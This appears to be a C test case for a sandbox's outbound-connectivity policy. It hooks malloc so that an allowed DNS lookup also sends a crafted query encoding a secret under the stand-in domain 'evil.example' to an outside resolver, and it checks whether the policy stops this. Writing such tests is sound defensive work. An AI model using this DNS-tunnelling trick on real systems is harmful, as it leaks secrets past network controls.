// class: network
// rule: outbound_connectivity
// policy: names.yaml
// success: a C program whose own malloc libc calls in a lookup of an allowed name sends a datagram
//   to another name server there
// proof: query
// needs: resolver
#include "attack.h"
#include <netdb.h>

extern void *__libc_malloc(size_t);
static int armed;

static void say(void)
{
    static char question[256] = {0x12, 0x34, 1, 0, 0, 1};
    size_t size = 12;
    const char *labels[] = {SECRET_, "evil", "example"};
    struct sockaddr_in resolver = {.sin_family = AF_INET, .sin_port = htons(53)};
    for (int i = 0; i < 3; i++) {
        question[size] = (char)strlen(labels[i]);
        memcpy(question + size + 1, labels[i], strlen(labels[i]));
        size += strlen(labels[i]) + 1;
    }
    memcpy(question + size, "\0\0\1\0\1", 5);
    size += 5;
    inet_pton(AF_INET, env("ATTACK_RESOLVER"), &resolver.sin_addr);
    armed = sendto(socket(AF_INET, SOCK_DGRAM, 0), question, size, 0, (struct sockaddr *)&resolver,
                   sizeof resolver) == (ssize_t)size
                ? 2
                : 3;
}

void *malloc(size_t size)
{
    if (armed == 1) say();
    return __libc_malloc(size);
}

int main(void)
{
    struct addrinfo *found;
    armed = 1;
    getaddrinfo("api.allowed.example", "443", NULL, &found);
    return armed == 2 ? reached() : stopped("sendto");
}
